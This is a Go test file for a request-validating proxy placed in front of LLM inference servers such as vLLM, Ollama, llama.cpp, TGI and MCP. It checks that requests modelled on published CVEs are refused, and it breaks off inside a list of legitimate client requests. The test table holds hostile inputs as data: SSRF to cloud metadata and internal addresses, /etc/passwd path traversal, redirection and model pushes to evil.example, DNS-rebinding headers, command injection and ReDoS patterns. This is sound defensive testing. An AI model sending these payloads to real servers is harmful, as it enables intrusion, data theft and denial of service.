package preset_test

import (
	"errors"
	"strings"
	"testing"

	"github.com/mantlet-go/mantlet/validate"
)

// Each case is the request of the advisory, as published or as its text describes it, sent to the preset that stands in front of
// the server concerned. That the same request without the attack passes is in TestHonestRequestsOfServersPass and in the client
// tests.
func TestPublishedAttacksOnServersDoNotReachThem(t *testing.T) {
	const poem = `"model":"m","messages":[{"role":"user","content":"write a poem"}]`
	const mcpAccept = "application/json, text/event-stream"
	vllm := func(more string) request {
		return request{method: "POST", path: "/v1/chat/completions", body: "{" + poem + "," + more + "}"}
	}
	part := func(p string) request {
		return request{method: "POST", path: "/v1/chat/completions", body: `{"model":"m","messages":[{"role":"user","content":[{"type":"text","text":"x"},` + p + `]}]}`}
	}
	legacy := func(body string) request { return request{method: "POST", path: "/v1/completions", body: body} }
	ask := func(item string) request {
		return request{method: "POST", path: "/v1/responses", body: `{"model":"m","input":[{"role":"user","content":"x"},` + item + `]}`}
	}
	tool := func(tool string) request {
		return request{method: "POST", path: "/v1/responses", body: `{"model":"m","input":"x","tools":[` + tool + `]}`}
	}
	llama := func(more string) request {
		return request{method: "POST", path: "/completion", body: `{"prompt":"hi",` + more + `}`}
	}
	generate := func(more string) request {
		return request{method: "POST", path: "/api/generate", body: `{"model":"llama3.2","prompt":"hi",` + more + `}`}
	}
	rpc := func(body string, header ...string) request {
		q := request{method: "POST", path: "/mcp", body: body, header: map[string]string{"Accept": mcpAccept}}
		for i := 0; i < len(header); i += 2 {
			q.header[header[i]] = header[i+1]
		}
		return q
	}
	for _, c := range []struct {
		advisory, preset string
		request          request
		status           int
		keyword          string
	}{
		// vLLM
		{"CVE-2026-34756: n", "vllm", vllm(`"n":10000000`), 422, "maximum"},
		{"CVE-2026-34756: n of the legacy API", "vllm", legacy(`{"model":"m","prompt":"hi","n":10000000}`), 422, "maximum"},
		{"CVE-2025-62426: tokenize", "vllm", vllm(`"chat_template_kwargs":{"tokenize":true}`), 422, "additionalProperties"},
		{"CVE-2025-62426: a template among them", "vllm", vllm(`"chat_template_kwargs":{"chat_template":"{{ 1 }}"}`), 422, "additionalProperties"},
		{"CVE-2025-62426: on /tokenize", "vllm", request{method: "POST", path: "/tokenize", body: `{` + poem + `,"chat_template_kwargs":{"tokenize":true}}`}, 422, "not"},
		{"CVE-2025-61620: a template", "vllm", vllm(`"chat_template":"{% for i in range(10**9) %}x{% endfor %}"`), 422, "not"},
		{"CVE-2025-61620: on /tokenize", "vllm", request{method: "POST", path: "/tokenize", body: `{` + poem + `,"chat_template":"{{ 1 }}"}`}, 422, "not"},
		{"CVE-2025-6242: an internal address", "vllm", part(`{"type":"image_url","image_url":{"url":"http://169.254.169.254/latest/meta-data/"}}`), 422, "format"},
		{"CVE-2026-24779: two readings of a URL", "vllm", part(`{"type":"image_url","image_url":{"url":"https://internal.example.com\\@allowed.example.com/x"}}`), 422, "format"},
		{"CVE-2025-62164: a tensor", "vllm", legacy(`{"model":"m","prompt":"hi","prompt_embeds":"gAJjdG9yY2g="}`), 422, "not"},
		{"CVE-2025-62164: a tensor instead of a prompt", "vllm", legacy(`{"model":"m","prompt_embeds":["gAJjdG9yY2g="]}`), 422, ""},
		{"CVE-2025-48942: guided_json", "vllm", legacy(`{"model":"m","prompt":"hi","guided_json":{"properties":{"reason":{"type":"stsring"}}}}`), 422, "not"},
		{"CVE-2025-48943: guided_regex", "vllm", legacy(`{"model":"m","prompt":"hi","guided_regex":"foo**"}`), 422, "not"},
		{"CVE-2025-48943: under its later name", "vllm", vllm(`"structured_outputs":{"regex":"foo**"}`), 422, "not"},
		{"CVE-2025-48944: the pattern of a tool", "vllm", vllm(`"tools":[{"type":"function","function":{"name":"f","parameters":{"type":"object","properties":{"x":{"type":"string","pattern":"foo**"}}}}}]`), 422, ""},
		{"CVE-2025-48944: in the Responses API", "vllm", request{method: "POST", path: "/v1/responses", body: `{"model":"m","input":"hi","tools":[{"type":"function","name":"f","parameters":{"type":"object","properties":{"x":{"type":"something"}}}}]}`}, 422, ""},
		{"CVE-2024-8768: an empty prompt", "vllm", legacy(`{"model":"m","prompt":""}`), 422, "minLength"},
		{"CVE-2024-8768: an empty list of prompts", "vllm", legacy(`{"model":"m","prompt":[]}`), 422, "minItems"},
		{"CVE-2024-8768: a list with an empty prompt", "vllm", legacy(`{"model":"m","prompt":["hi",""]}`), 422, "minLength"},
		{"CVE-2024-8939: best_of", "vllm", legacy(`{"model":"m","prompt":"hi","best_of":1000000}`), 422, "maximum"},
		{"CVE-2024-8939: a beam", "vllm", vllm(`"use_beam_search":true`), 422, "not"},
		{"CVE-2026-5497: frames of a video", "vllm", part(`{"type":"video_url","video_url":{"url":"data:video/jpeg;base64,/9j/4AAQ,/9j/4AAQ"}}`), 422, "enum"},
		{"CVE-2026-22778: a video to fetch", "vllm", part(`{"type":"video_url","video_url":{"url":"https://evil.example/a.mp4"}}`), 422, "enum"},
		{"a class: log probabilities of the vocabulary", "vllm", legacy(`{"model":"m","prompt":"hi","logprobs":-1}`), 422, "minimum"},
		{"a class: log probabilities of the prompt", "vllm", legacy(`{"model":"m","prompt":"hi","prompt_logprobs":1}`), 422, "not"},
		{"a class: code by name", "vllm", vllm(`"logits_processors":["os.system"]`), 422, "not"},
		{"a class: an adapter from anywhere", "vllm", request{method: "POST", path: "/v1/load_lora_adapter", body: `{"lora_name":"x","lora_path":"/etc"}`}, 404, ""},
		{"a class: any method of the workers", "vllm", request{method: "POST", path: "/collective_rpc", body: `{"method":"shutdown"}`}, 404, ""},

		{"CVE-2025-6242: in a document that was fetched before", "vllm", request{method: "POST", path: "/v1/messages", body: `{"model":"m","max_tokens":1,"messages":[{"role":"assistant","content":[{"type":"web_fetch_tool_result","tool_use_id":"t","content":{"type":"web_fetch_result","url":"https://example.com","content":{"type":"document","source":{"type":"url","url":"http://10.0.0.1/x"}}}}]}]}`}, 422, "format"},
		{"CVE-2025-6242: in a result of a search", "vllm", request{method: "POST", path: "/v1/messages", body: `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"search_result","source":"s","title":"t","content":[{"type":"image","source":{"type":"url","url":"http://10.0.0.1/x"}}]}]}]}`}, 422, "format"},
		{"a class: a tool of a client's server", "anthropic", request{method: "POST", path: "/v1/messages", body: `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":"x"}],"tools":[{"type":"mcp_toolset","name":"x","mcp_server_name":"x"}]}`}, 422, ""},

		// LiteLLM, and what else reads where to send a request from its body.
		{"CVE-2024-6587: api_base", "openai", vllm(`"api_base":"https://evil.example"`), 422, "not"},
		{"CVE-2024-6587: base_url", "openai", vllm(`"base_url":"https://evil.example"`), 422, "not"},
		{"CVE-2024-6587: on /v1/embeddings", "openai", request{method: "POST", path: "/v1/embeddings", body: `{"model":"m","input":"x","api_base":"https://evil.example"}`}, 422, "not"},
		{"a class: a tool server of the client's", "openai", request{method: "POST", path: "/v1/responses", body: `{"model":"m","input":"x","tools":[{"type":"mcp","server_label":"x","server_url":"https://evil.example"}]}`}, 422, ""},
		{"a class: the same in the result of a tool search", "openai", ask(`{"type":"tool_search_output","tools":[{"type":"mcp","server_label":"x","server_url":"https://evil.example"}]}`), 422, ""},
		{"a class: the same in additional tools", "openai", ask(`{"type":"additional_tools","role":"developer","tools":[{"type":"mcp","server_label":"x","server_url":"https://evil.example"}]}`), 422, ""},
		{"a class: the same in a namespace", "openai", tool(`{"type":"namespace","name":"n","description":"d","tools":[{"type":"mcp","server_label":"x","server_url":"https://evil.example"}]}`), 422, ""},
		{"a class: a tool server of the operator's account", "openai", tool(`{"type":"mcp","server_label":"x"}`), 422, "enum"},
		{"a class: a mask to fetch", "openai", tool(`{"type":"image_generation","input_image_mask":{"image_url":"http://169.254.169.254/x"}}`), 422, "format"},
		{"a class: somebody else's container", "openai", tool(`{"type":"code_interpreter","container":"cntr_1"}`), 422, "type"},
		{"a class: a sandbox with a network", "openai", tool(`{"type":"code_interpreter","container":{"type":"auto","network_policy":{"type":"allowlist","allowed_domains":["evil.example"]}}}`), 422, "additionalProperties"},
		{"a class: a shell with a network", "openai", tool(`{"type":"shell","environment":{"type":"container_auto","network_policy":{"type":"allowlist","allowed_domains":["evil.example"]}}}`), 422, "additionalProperties"},
		{"a class: a server under another type", "openai", tool(`{"type":"web_search","server_url":"https://evil.example"}`), 422, ""},
		{"a class: an output to fetch", "openai", ask(`{"type":"code_interpreter_call","id":"c","outputs":[{"type":"image","url":"http://10.0.0.1/x"}]}`), 422, "format"},
		{"CVE-2025-48944: in the result of a tool search", "vllm", ask(`{"type":"tool_search_output","tools":[{"type":"function","name":"f","parameters":{"type":"object","properties":{"x":{"type":"something"}}}}]}`), 422, ""},
		{"a class: a file to fetch", "openai", request{method: "POST", path: "/v1/responses", body: `{"model":"m","input":[{"role":"user","content":[{"type":"input_file","file_url":"http://10.0.0.1/x"}]}]}`}, 422, "format"},
		{"a class: a screenshot to fetch", "openai", request{method: "POST", path: "/v1/responses", body: `{"model":"m","input":[{"type":"computer_call_output","call_id":"c","output":{"type":"computer_screenshot","image_url":"file:///etc/passwd"}}]}`}, 422, "format"},

		// Ollama. All of them need an endpoint that manages models.
		{"CVE-2026-7482: a model file is uploaded", "ollama", request{method: "POST", path: "/api/blobs/sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", body: "GGUF", header: map[string]string{"Content-Type": "application/octet-stream"}}, 404, ""},
		{"CVE-2026-7482: a model is created from it", "ollama", request{method: "POST", path: "/api/create", body: `{"model":"leak","files":{"a.gguf":"sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"},"quantize":"q8_0"}`}, 404, ""},
		{"CVE-2026-7482: and pushed with the memory in it", "ollama", request{method: "POST", path: "/api/push", body: `{"model":"evil.example/x/leak","insecure":true}`}, 404, ""},
		{"CVE-2024-37032: a manifest of the attacker's is pulled", "ollama", request{method: "POST", path: "/api/pull", body: `{"name":"evil.example/rogue/bi0x","insecure":true}`}, 404, ""},
		{"CVE-2024-37032: and the file it names pushed", "ollama", request{method: "POST", path: "/api/push", body: `{"name":"evil.example/rogue/bi0x","insecure":true}`}, 404, ""},
		{"CVE-2024-39719: a path that is there or not", "ollama", request{method: "POST", path: "/api/create", body: `{"name":"x","path":"/etc/passwd"}`}, 404, ""},
		{"CVE-2024-39720: a file of four bytes", "ollama", request{method: "POST", path: "/api/create", body: `{"name":"x","modelfile":"FROM ./four-bytes.gguf"}`}, 404, ""},
		{"CVE-2024-39721: a file without end", "ollama", request{method: "POST", path: "/api/create", body: `{"name":"x","path":"/dev/random"}`}, 404, ""},
		{"CVE-2024-39722: a path in a push", "ollama", request{method: "POST", path: "/api/push", body: `{"name":"../../../../etc/passwd"}`}, 404, ""},
		{"CVE-2024-12886: a pull that unpacks without end", "ollama", request{method: "POST", path: "/api/pull", body: `{"model":"evil.example/a/bomb"}`}, 404, ""},
		{"CVE-2026-7020: a digest with a path", "ollama", request{method: "POST", path: "/api/blobs/sha256:..%2f..%2fx", body: "x"}, 404, ""},
		{"CVE-2025-63389: models managed by anyone", "ollama", request{method: "DELETE", path: "/api/delete", body: `{"model":"llama3.2"}`}, 404, ""},
		{"CVE-2024-28224: a rebound name", "ollama", request{method: "GET", path: "/api/tags", header: map[string]string{"Host": "evil.example:11434", "Origin": "http://other.example"}}, 403, ""},
		{"a class: a template of the client's", "ollama", generate(`"template":"{{ range .Messages }}{{ end }}"`), 422, "const"},
		{"a class: memory by num_ctx", "ollama", generate(`"options":{"num_ctx":2147483647}`), 422, "maximum"},
		{"a class: a model pinned in memory", "ollama", generate(`"keep_alive":-1`), 422, "minimum"},
		{"a class: a model pinned in memory, in words", "ollama", generate(`"keep_alive":"87600h"`), 422, ""},
		{"a class: a model pinned in memory, negative", "ollama", generate(`"keep_alive":"-1m"`), 422, "pattern"},
		{"a class: a model unloaded under others", "ollama", generate(`"keep_alive":0`), 422, "minimum"},
		{"a class: the same in words", "ollama", generate(`"keep_alive":"0h00m0.0s"`), 422, "not"},
		{"a class: a model loaded anew", "ollama", generate(`"options":{"num_gpu":0}`), 422, "additionalProperties"},
		{"a class: threads", "ollama", generate(`"options":{"num_thread":100000}`), 422, "additionalProperties"},
		{"a class: a name that is a path", "ollama", request{method: "POST", path: "/api/show", body: `{"model":"../../../../etc/passwd"}`}, 422, ""},
		{"a class: two names for one model", "ollama", request{method: "POST", path: "/api/show", body: `{"model":"allowed","name":"other"}`}, 422, "const"},
		{"a class: a grammar from a broken schema", "ollama", generate(`"format":{"type":"object","properties":{"x":{"type":"string","pattern":"("}}}`), 422, ""},

		// llama.cpp
		{"CVE-2026-21869: n_discard", "llamacpp", llama(`"n_discard":-1`), 422, "minimum"},
		{"CVE-2026-21869: in the chat API", "llamacpp", vllm(`"n_discard":-2147483648`), 422, "minimum"},
		{"CVE-2026-21869: in the legacy API", "llamacpp", legacy(`{"model":"m","prompt":"hi","n_discard":-5}`), 422, "minimum"},
		{"llama.cpp#26600: a nested grammar", "llamacpp", llama(`"grammar":"root ::= ` + strings.Repeat("(", 60000) + `\"a\"` + strings.Repeat(")", 60000) + `"`), 422, "not"},
		{"llama.cpp#4492: a broken grammar", "llamacpp", llama(`"grammar":"rout::=\\\"route\\\""`), 422, "not"},
		{"llama.cpp#25959: a parser with a cycle", "llamacpp", llama(`"chat_parser":"{\"type\":\"sequence\",\"children\":[0]}"`), 422, "not"},
		{"llama.cpp#25283: a nested schema", "llamacpp", llama(`"json_schema":` + strings.Repeat(`{"items":`, 5000) + `{}` + strings.Repeat(`}`, 5000)), 400, "Depth"},
		{"llama.cpp#25284: a quantifier without an atom", "llamacpp", llama(`"json_schema":{"type":"string","pattern":"^(?<=x)*$"}`), 422, ""},
		{"llama.cpp#25284: in a tool", "llamacpp", vllm(`"tools":[{"type":"function","function":{"name":"f","parameters":{"type":"object","properties":{"x":{"type":"string","pattern":"^(?<=x)*$"}}}}}]`), 422, ""},
		{"a class: somebody else's slot", "llamacpp", llama(`"id_slot":0`), 422, "const"},
		{"a class: a slot saved to a file", "llamacpp", request{method: "POST", path: "/slots/0?action=save", body: `{"filename":"../../x"}`}, 404, ""},
		{"a class: the server's properties", "llamacpp", request{method: "POST", path: "/props", body: `{"chat_template":"x"}`}, 404, ""},
		{"a class: adapters", "llamacpp", request{method: "POST", path: "/lora-adapters", body: `[{"id":0,"scale":9}]`}, 404, ""},
		{"a class: an adapter for one request", "llamacpp", llama(`"lora":[{"id":0,"scale":9}]`), 422, "not"},
		{"a class: completions by the thousand", "llamacpp", llama(`"n_cmpl":1000`), 422, "maximum"},

		// Text Generation Inference
		{"CVE-2026-0599: an image in a prompt", "tgi", request{method: "POST", path: "/generate", body: `{"inputs":"What is this? ![](https://evil.example/huge.png)"}`}, 422, "not"},
		{"CVE-2026-0599: in a stream", "tgi", request{method: "POST", path: "/generate_stream", body: `{"inputs":"![](HTTP://10.0.0.1/x)"}`}, 422, "not"},
		{"CVE-2026-0599: in a message", "tgi", request{method: "POST", path: "/v1/chat/completions", body: `{"model":"tgi","messages":[{"role":"user","content":"![](http://evil.example/x)"}]}`}, 422, "not"},
		{"CVE-2026-0599: in a part of a message", "tgi", part(`{"type":"text","text":"![](http://evil.example/x)"}`), 422, "not"},
		{"CVE-2026-0599: as an image part", "tgi", part(`{"type":"image_url","image_url":{"url":"https://evil.example/huge.png"}}`), 422, ""},
		{"CVE-2026-0599: in the schema of a tool", "tgi", vllm(`"tools":[{"type":"function","function":{"name":"f","parameters":{"type":"object","title":"![](http://evil.example/x)"}}}]`), 422, "not"},
		{"CVE-2026-0599: in a name of that schema", "tgi", vllm(`"tools":[{"type":"function","function":{"name":"f","parameters":{"type":"object","properties":{"![](http://evil.example/x)":{}}}}}]`), 422, ""},
		{"CVE-2026-0599: in the legacy API", "tgi", legacy(`{"model":"m","prompt":["x","![](http://evil.example/x)"]}`), 422, "not"},
		{"a class: an expression as grammar", "tgi", request{method: "POST", path: "/generate", body: `{"inputs":"x","parameters":{"grammar":{"type":"regex","value":"((a{0,99}){0,99}){0,99}"}}}`}, 422, "const"},
		{"a class: an expression in a chat", "tgi", request{method: "POST", path: "/v1/chat/completions", body: `{"messages":[{"role":"user","content":"x"}],"response_format":{"type":"regex","value":"((a{0,99}){0,99}){0,99}"}}`}, 422, ""},
		{"CVE-2025-48942: beside json_object", "llamacpp", request{method: "POST", path: "/v1/chat/completions", body: `{"messages":[{"role":"user","content":"x"}],"response_format":{"type":"json_object","schema":{"properties":{"reason":{"type":"stsring"}}}}}`}, 422, ""},
		{"a class: best_of", "tgi", request{method: "POST", path: "/generate", body: `{"inputs":"x","parameters":{"best_of":1000}}`}, 422, "maximum"},

		// The Model Context Protocol
		{"CVE-2026-34742: a rebound name at the Go SDK", "mcp", rpc(`{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"x"}}`, "Host", "evil.example:8080"), 421, ""},
		{"CVE-2025-66414: at the TypeScript SDK", "mcp", rpc(`{"jsonrpc":"2.0","id":1,"method":"tools/list"}`, "Host", "evil.example:3000", "Origin", "http://evil.example:3000"), 421, ""},
		{"CVE-2025-66416: at the Python SDK", "mcp", request{method: "GET", path: "/mcp", header: map[string]string{"Host": "evil.example:8000", "Accept": "text/event-stream"}}, 421, ""},
		{"CVE-2025-49596: at the Inspector", "mcp", request{method: "GET", path: "/sse?transportType=stdio&command=touch&args=%2Ftmp%2Fexploited-from-the-browser", header: map[string]string{"Host": "0.0.0.0:6277"}}, 421, ""},
		{"CVE-2025-49596: without a browser", "mcp", request{method: "GET", path: "/sse?transportType=stdio&command=touch&args=%2Ftmp%2Fx"}, 404, ""},
		{"CVE-2026-33252: text/plain from another site", "mcp", rpc(`{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"x"}}`, "Content-Type", "text/plain"), 415, ""},
		{"CVE-2026-33252: with its origin", "mcp", rpc(`{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"x"}}`, "Origin", "https://evil.example"), 403, ""},
		{"CVE-2026-27896 (go-sdk#805): a method in another case", "mcp", rpc(`{"jsonrpc":"2.0","id":1,"method":"ping","Method":"tools/call","params":{"name":"x"}}`), 400, ""},
		{"CVE-2026-27896 (go-sdk#805): a lone one", "mcp", rpc(`{"jsonrpc":"2.0","id":1,"METHOD":"tools/call","params":{"name":"x"}}`), 422, "case"},
		{"CVE-2026-27896 (go-sdk#805): folded beyond ASCII", "mcp", rpc(`{"jsonrpc":"2.0","id":1,"method":"tools/call","paramſ":{"name":"x"}}`), 422, "case"},
		{"CVE-2026-27896 (go-sdk#805): in the parameters", "mcp", rpc(`{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"safe","Arguments":{"path":"/etc"}}}`), 422, ""},
		{"CVE-2026-27896 (go-sdk#805): twice in the parameters", "mcp", rpc(`{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"safe","NAME":"rm"}}`), 400, ""},
		{"GHSA-q382-vc8q-7jhj: a NUL after the name", "mcp", rpc(`{"jsonrpc":"2.0","id":1,"method":"ping","method\u0000":"tools/call","params":{"name":"x"}}`), 422, "additionalProperties"},
		{"GHSA-q382-vc8q-7jhj: in the parameters", "mcp", rpc(`{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"safe","name\u0000":"rm"}}`), 422, ""},
		{"CVE-2026-0621: a long URI", "mcp", rpc(`{"jsonrpc":"2.0","id":1,"method":"resources/read","params":{"uri":"file:///` + strings.Repeat("a,", 2048) + `"}}`), 422, "maxLength"},
		{"a class: a list of messages", "mcp", rpc(`[{"jsonrpc":"2.0","id":1,"method":"ping"},{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"x"}}]`, "MCP-Protocol-Version", "2025-06-18"), 422, "type"},
		{"a class: a list of messages of the one revision that had it", "mcp", rpc(`[{"jsonrpc":"2.0","id":1,"method":"ping"}]`), 422, "type"},
		{"a class: a request and a response in one", "mcp", rpc(`{"jsonrpc":"2.0","id":1,"method":"ping","result":{}}`), 422, "not"},
		{"a class: a response that is an error too", "mcp", rpc(`{"jsonrpc":"2.0","id":1,"result":{},"error":{"code":1,"message":"x"}}`), 422, "not"},
		{"a class: a request without an answer to it", "mcp", rpc(`{"jsonrpc":"2.0","method":"tools/call","params":{"name":"x"}}`), 422, "required"},
		{"a class: an id that is null", "mcp", rpc(`{"jsonrpc":"2.0","id":null,"method":"ping"}`), 422, "type"},
		{"a class: an id that readers round", "mcp", rpc(`{"jsonrpc":"2.0","id":9007199254740993,"method":"ping"}`), 422, "maximum"},
		{"a class: parameters by position", "mcp", rpc(`{"jsonrpc":"2.0","id":1,"method":"tools/call","params":["x"]}`), 422, "type"},
		{"a class: a method that is no name", "mcp", rpc(`{"jsonrpc":"2.0","id":1,"method":"tools/../x\n"}`), 422, "pattern"},
		{"a class: another version of JSON-RPC", "mcp", rpc(`{"jsonrpc":"1.0","id":1,"method":"ping"}`), 422, "const"},
	} {
		t.Run(c.advisory, func(t *testing.T) {
			p := everything(t)[c.preset]
			w, reached := send(t, p, c.request)
			if reached != "" {
				t.Fatalf("it reached the server: %.200s", reached)
			}
			if w.Code != c.status {
				t.Errorf("status %d %s, want %d", w.Code, w.Body, c.status)
			}
			if c.keyword == "" {
				return
			}
			for _, rt := range p.Routes {
				if rt.Body != nil && rt.Pattern == c.request.method+" "+c.request.path {
					var e *validate.Error
					if !errors.As(rt.Body.Check([]byte(c.request.body)), &e) || e.Keyword != c.keyword {
						t.Errorf("refused for %v, want %q", e, c.keyword)
					}
				}
			}
		})
	}
}

// honest is what clients of each server send, in the words of its documentation.
var honest = []struct{ preset, path, body string }{
	{"openai", "/v1/responses", `{"model":"gpt-5","input":"Tell me a story","instructions":"be brief","max_output_tokens":4096,"store":false,"stream":true,"reasoning":{"effort":"low","summary":"auto"},"include":["reasoning.encrypted_content"],"text":{"verbosity":"low","format":{"type":"text"}},"truncation":"auto","metadata":{"a":"b"},"parallel_tool_calls":true,"previous_response_id":"resp_1","tool_choice":"auto"}`},
	{"openai", "/v1/responses", `{"model":"gpt-5","input":[{"role":"developer","content":"x"},{"type":"message","role":"user","content":[{"type":"input_text","text":"what is this"},{"type":"input_image","image_url":"https://upload.example.org/a.png","detail":"auto"},{"type":"input_image","file_id":"file-1","image_url":null,"detail":"low"},{"type":"input_file","file_url":"https://www.example.org/a.pdf"},{"type":"input_file","filename":"a.pdf","file_data":"data:application/pdf;base64,JVBERi0xLjQKMSAwIG9iajw8Pj5lbmRvYmoKeHJlZgowIDEKMDAwMDAwMDAwMCA2NTUzNSBmIAp0cmFpbGVyPDwvUm9vdCAxIDAgUj4+CnN0YXJ0eHJlZgoyNwolJUVPRgo="}]},
		{"type":"reasoning","id":"rs_1","summary":[{"type":"summary_text","text":"hm"}],"encrypted_content":"abc"},{"type":"function_call","id":"fc_1","call_id":"call_1","name":"get_weather","arguments":"{\"city\":\"Oslo\"}","status":"completed"},{"type":"function_call_output","call_id":"call_1","output":"4 degrees"},
		{"type":"message","id":"msg_1","role":"assistant","status":"completed","content":[{"type":"output_text","text":"hi","annotations":[],"logprobs":[]}]},{"type":"item_reference","id":"msg_2"}]}`},
	{"openai", "/v1/responses", `{"model":"gpt-5","input":"x","tools":[{"type":"function","name":"get_weather","description":"Get it","strict":true,"parameters":{"type":"object","properties":{"city":{"type":"string"}},"required":["city"],"additionalProperties":false}},{"type":"web_search"},{"type":"file_search","vector_store_ids":["vs_1"],"max_num_results":5},{"type":"custom","name":"code","format":{"type":"grammar","syntax":"lark","definition":"start: \"a\""}},{"type":"code_interpreter","container":{"type":"auto"}}],"tool_choice":{"type":"function","name":"get_weather"}}`},
	{"openai", "/v1/responses", `{"model":"gpt-5","input":[{"role":"user","content":"x"},{"type":"tool_search_output","tools":[{"type":"function","name":"f","parameters":null}]},{"type":"code_interpreter_call","id":"c","code":"1","container_id":"cntr_1","status":"completed","outputs":[{"type":"logs","logs":"1"},{"type":"image","url":"https://files.example.com/a.png"}]},{"type":"web_search_call","id":"w","status":"completed","action":{"type":"open_page","url":"http://example.com"}}],
		"tools":[{"type":"namespace","name":"n","description":"d","tools":[{"type":"function","name":"f","parameters":{"type":"object"}}]},{"type":"image_generation","size":"1024x1024","quality":"high","input_image_mask":{"file_id":"file-1"}},{"type":"shell","environment":{"type":"container_auto"}},{"type":"web_search_preview","search_context_size":"low","user_location":{"type":"approximate","country":"NO"}},{"type":"computer_use_preview","display_width":1024,"display_height":768,"environment":"browser"}]}`},
	{"openai", "/v1/chat/completions", `{"model":"gpt-5","messages":[{"role":"user","content":"x"}],"moderation":{"model":"omni-moderation-latest"},"prompt_cache_options":{"mode":"explicit"},"prompt_cache_key":"k"}`},
	{"anthropic", "/v1/messages", `{"model":"claude-opus-4-5","max_tokens":9,"speed":"fast","diagnostics":{"previous_message_id":null},"messages":[{"role":"user","content":"x"},{"role":"system","content":"y"}]}`},
	{"openai", "/v1/responses", `{"model":"gpt-5","prompt":{"id":"pmpt_1","version":"2","variables":{"name":"Ann","pic":{"type":"input_image","image_url":"https://www.example.org/a.png"}}}}`},
	{"openai", "/v1/responses", `{"model":"gpt-5","input":"x","text":{"format":{"type":"json_schema","name":"math","strict":true,"schema":{"type":"object","properties":{"a":{"type":"string"}},"required":["a"],"additionalProperties":false}}},"conversation":{"id":"conv_1"},"background":true,"service_tier":"flex"}`},
	{"openai", "/v1/responses", `{"model":"m","input":[{"id":"m","type":"message","role":"assistant","status":"completed","phase":"final_answer","content":[{"type":"output_text","text":"x","annotations":[{"type":"url_citation","url":"https://x","title":"t","start_index":0,"end_index":1},{"type":"container_file_citation","container_id":"c","file_id":"f","filename":"n","start_index":0,"end_index":1}],"logprobs":[{"token":"a","bytes":[97],"logprob":-1.0,"top_logprobs":[]}]}]},
		{"type":"computer_call","id":"c","call_id":"c","status":"completed","actions":[{"type":"scroll","x":1,"y":1,"scroll_x":0,"scroll_y":3,"keys":null},{"type":"drag","path":[{"x":1,"y":2}]}],"pending_safety_checks":[{"id":"a","code":"c","message":"m"}]},
		{"type":"computer_call_output","call_id":"c","acknowledged_safety_checks":[],"output":{"type":"computer_screenshot","image_url":"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="}},
		{"type":"function_call_output","call_id":"c","output":[{"type":"input_text","text":"x"},{"type":"input_image","image_url":"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==","detail":"auto"}],"caller":{"type":"direct"}},
		{"type":"tool_search_call","id":"t","call_id":null,"execution":"client","arguments":{"query":"x"},"status":"completed"},
		{"type":"shell_call","call_id":"c","action":{"commands":["ls"],"timeout_ms":null,"max_output_length":1000},"environment":{"type":"local","skills":[{"name":"n","description":"d","path":"/p"}]}},
		{"type":"shell_call_output","call_id":"c","output":[{"stdout":"a","stderr":"","outcome":{"type":"timeout"}}],"max_output_length":1},
		{"type":"compaction","id":"c","encrypted_content":"x"},
		{"type":"configuration_update","reasoning":{"effort":"low"},"text":{"verbosity":"low"}},
		{"type":"apply_patch_call_output","call_id":"c","status":"completed","output":"done"},
		{"type":"image_generation_call","id":"i","status":"completed","result":"iVBO","revised_prompt":"x","size":"1","error":null,"action":null}]}`},
	{"anthropic", "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"tool_result","tool_use_id":"x","content":[{"type":"tool_reference","tool_name":"f"},{"type":"image","source":{"type":"base64","media_type":"image/png","data":"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="}}],"cache_control":{"type":"ephemeral","ttl":"1h"}},
		{"type":"server_tool_use","id":"a","name":"n","input":{"file":"x"},"caller":{"type":"code_execution_20250825","tool_id":"t"}},
		{"type":"text_editor_code_execution_tool_result","tool_use_id":"t","content":{"type":"text_editor_code_execution_view_result","content":"x","file_type":"text","num_lines":1}},
		{"type":"bash_code_execution_tool_result","tool_use_id":"t","content":{"type":"bash_code_execution_result","stdout":"x","stderr":"","return_code":0,"content":[{"type":"bash_code_execution_output","file_id":"f"}]}},
		{"type":"redacted_thinking","data":"abc"},
		{"type":"text","text":"x","citations":null},
		{"type":"document","source":{"type":"content","content":[{"type":"text","text":"x"}]},"citations":{"enabled":true},"title":"t","context":"c"}]}]}`},
	{"openai", "/v1/chat/completions", `{"model":"m","messages":[{"role":"assistant","content":[{"type":"text","text":"x"},{"type":"refusal","refusal":"y"}],"audio":{"id":"a"},"reasoning":"r","reasoning_details":[{"type":"reasoning.text","text":"x","format":"f","index":0,"signature":"s"}],"tool_calls":[{"index":0,"id":"i","type":"function","function":{"name":"f","arguments":"{}","parsed_arguments":{"a":1}}},{"id":"j","type":"custom","custom":{"name":"c","input":"x"}}]},{"role":"user","content":[{"type":"text","text":"x","cache_control":{"type":"ephemeral"}},{"type":"image_url","image_url":{"url":"https://example.com/a.png","detail":"auto"},"prompt_cache_breakpoint":{"mode":"explicit"}}]}]}`},
	{"openai", "/v1/embeddings", `{"input":"The food was delicious","model":"text-embedding-ada-002","encoding_format":"float"}`},
	{"openai", "/v1/embeddings", `{"input":[[1,2,3],[4]],"model":"text-embedding-3-large","encoding_format":"base64","dimensions":256,"user":"u"}`},
	{"openai", "/v1/embeddings", `{"input":[15339,1917],"model":"m"}`},
	{"openai", "/v1/moderations", `{"model":"omni-moderation-latest","input":[{"type":"text","text":"...text to classify goes here..."},{"type":"image_url","image_url":{"url":"https://example.com/image.png"}}]}`},
